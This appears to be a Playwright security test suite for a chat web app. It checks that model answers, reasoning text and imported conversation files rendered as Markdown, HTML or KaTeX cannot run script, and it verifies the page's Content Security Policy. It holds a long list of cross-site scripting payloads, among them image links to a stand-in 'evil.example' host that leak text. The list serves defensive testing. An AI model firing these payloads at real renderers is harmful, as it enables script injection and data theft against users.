import { answerWith, expect, test } from './page.ts'

/** What a model could write so that a page acts on it: HTML, Markdown, formulas, code, each with a call of `pwned`. */
const CORPUS = [
  '<script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()><circle/></svg>',
  '<svg><script>pwned()</script></svg>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<a href="javascript:pwned()">x</a>',
  '<details open ontoggle=pwned()>x</details>',
  '<body onload=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<style>@import "javascript:pwned()"; * { background: url(javascript:pwned()) }</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
  '<base href="https://evil.example/">',
  '<form action="javascript:pwned()"><button>x</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<template><script>pwned()</script></template>',
  '<img src="https://evil.example/leak?text">',
  '![x](https://evil.example/leak.png)',
  '![x](javascript:pwned())',
  '![x" onerror="pwned()](x)',
  '[x](javascript:pwned())',
  '[x](JaVaScRiPt:pwned())',
  '[x](java\nscript:pwned())',
  '[x](&#106;avascript:pwned())',
  '[x](data:text/html,<script>pwned()</script>)',
  '[x](vbscript:pwned())',
  '[x](https://example.com "onmouseover=pwned() x=")',
  '[x](https://example.com" onmouseover="pwned())',
  '<javascript:pwned()>',
  '[x]: javascript:pwned()\n\n[x]',
  'javascript:pwned()',
  '```html\n<script>pwned()</script>\n```',
  '```"><img src=x onerror=pwned()>\nx\n```',
  '```js onload=pwned()\nx\n```',
  '`<img src=x onerror=pwned()>`',
  '| <img src=x onerror=pwned()> |\n|---|\n| <script>pwned()</script> |',
  '# <img src=x onerror=pwned()>',
  '- <img src=x onerror=pwned()>',
  '> <img src=x onerror=pwned()>',
  '$\\href{javascript:pwned()}{x}$',
  '$\\url{javascript:pwned()}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$\\htmlClass{x" onclick="pwned()}{y}$',
  '$\\htmlData{x=pwned()}{y}$',
  '$\\html@mathml{<img src=x onerror=pwned()>}{}$',
  '$</span><img src=x onerror=pwned()>$',
  '$$\\text{<script>pwned()</script>}$$',
  '\\(<img src=x onerror=pwned()>\\)',
  '<div style="position:fixed;inset:0;background:red">covers the page</div>',
  '<p id="app" class="app" name="body">clobbers</p>',
  '\u202E<script>pwned()</script>',
  '<<script>script>pwned()<</script>/script>',
  '<scr\u0000ipt>pwned()</scr\u0000ipt>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '<!--><img src=x onerror=pwned()>-->',
  '<![CDATA[<script>pwned()</script>]]>',
  '<?xml version="1.0"?><script>pwned()</script>',
  '<object data="javascript:pwned()"></object><embed src="javascript:pwned()">',
]

const SAFE = /^(https?:|mailto:)/

test('nothing that a model writes acts', async ({ chat, page }) => {
  let calls = 0
  await page.exposeFunction('pwned', () => calls++)
  page.on('dialog', (dialog) => {
    calls++
    void dialog.dismiss()
  })
  const deltas = CORPUS.flatMap((text) => {
    const middle = Math.floor(text.length / 2) // cut in the middle, as tokens cut it
    return [{ content: text.slice(0, middle) }, { content: `${text.slice(middle)}\n\n` }]
  })
  await answerWith(page, { reasoning_content: CORPUS.join('\n\n') }, ...deltas)
  await chat.open()
  await chat.ask(CORPUS.join('\n'))
  await chat.last.getByText('Reasoning').click()
  await expect(chat.last.locator('.katex').first()).toBeVisible()

  const found = await page.evaluate(() => {
    const bad: string[] = []
    const active =
      'script, iframe, object, embed, link, meta, base, style, form, input, img, video, audio, template'
    for (const markdown of document.querySelectorAll('.markdown')) {
      for (const element of markdown.querySelectorAll('*')) {
        if (element.matches(active)) bad.push(element.outerHTML)
        for (const { name, value } of element.attributes) {
          if (name.startsWith('on') || name === 'id' || name === 'srcdoc') bad.push(element.outerHTML)
          if (name === 'style' && !element.closest('.katex')) bad.push(element.outerHTML)
          if (/^\s*(javascript|vbscript|data):/i.test(value)) bad.push(element.outerHTML)
        }
      }
    }
    return bad
  })
  expect(found).toEqual([])
  for (const link of await chat.last.locator('.markdown a').all()) {
    const href = await link.getAttribute('href')
    if (href !== null) expect(href).toMatch(SAFE)
    expect(await link.getAttribute('rel')).toContain('noopener')
  }
  for (const link of await chat.last.locator('.markdown a:not([href^=http])').all())
    await link.click({ force: true })
  await page.reload()
  await expect(chat.last.locator('.markdown').last()).toBeVisible()
  expect(calls).toBe(0)
})

test('nothing in an imported file acts', async ({ chat, page }) => {
  let calls = 0
  await page.exposeFunction('pwned', () => calls++)
  const file = {
    format: 'corral-conversations',
    version: 1,
    infos: [
      {
        id: 'c',
        title: '<img src=x onerror=pwned()>',
        created: 1,
        updated: 1,
        system: '<script>pwned()</script>',
        leaf: 'm',
      },
    ],
    messages: [
      {
        id: 'u',
        conversation: 'c',
        parent: null,
        role: 'user',
        text: '<img src=x onerror=pwned()>',
        created: 1,
        images: ['javascript:pwned()', 'https://evil.example/x.png'],
      },
      {
        id: 'm',
        conversation: 'c',
        parent: 'u',
        role: 'assistant',
        text: CORPUS.join('\n\n'),
        created: 2,
        calls: [{ id: 'k', name: '<img src=x onerror=pwned()>', args: '<script>pwned()</script>' }],
      },
    ],
  }
  await chat.open()
  await page.locator('input[type=file][accept*=json]').setInputFiles({
    name: 'x.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(file)),
  })
  await page.getByRole('link', { name: '<img src=x onerror=pwned()>' }).click()
  await expect(chat.last.locator('.markdown')).toBeVisible()
  await expect(chat.questions.getByRole('img')).toHaveCount(0)
  expect(calls).toBe(0)
})

test('the page’s policy lets no script in', async ({ context, request }) => {
  const policy = (await request.get('/')).headers()['content-security-policy']!
  expect(policy).not.toMatch(/unsafe|\*|https?:/)
  const page = await context.newPage() // not watched: it breaks the policy on purpose
  await page.goto('/')
  await expect(page.locator('main')).toBeVisible()
  const refused = await page.evaluate(() => {
    try {
      document.createElement('div').innerHTML = '<b>x</b>'
      return false
    } catch (thrown) {
      return thrown instanceof TypeError
    }
  })
  expect(refused).toBe(true)
  const inline = await page.evaluate(() => {
    const script = document.createElement('script')
    try {
      script.textContent = 'window.ran = true'
    } catch {
      // Trusted Types refuse the text already
    }
    document.body.append(script)
    return 'ran' in window
  })
  expect(inline).toBe(false)
})
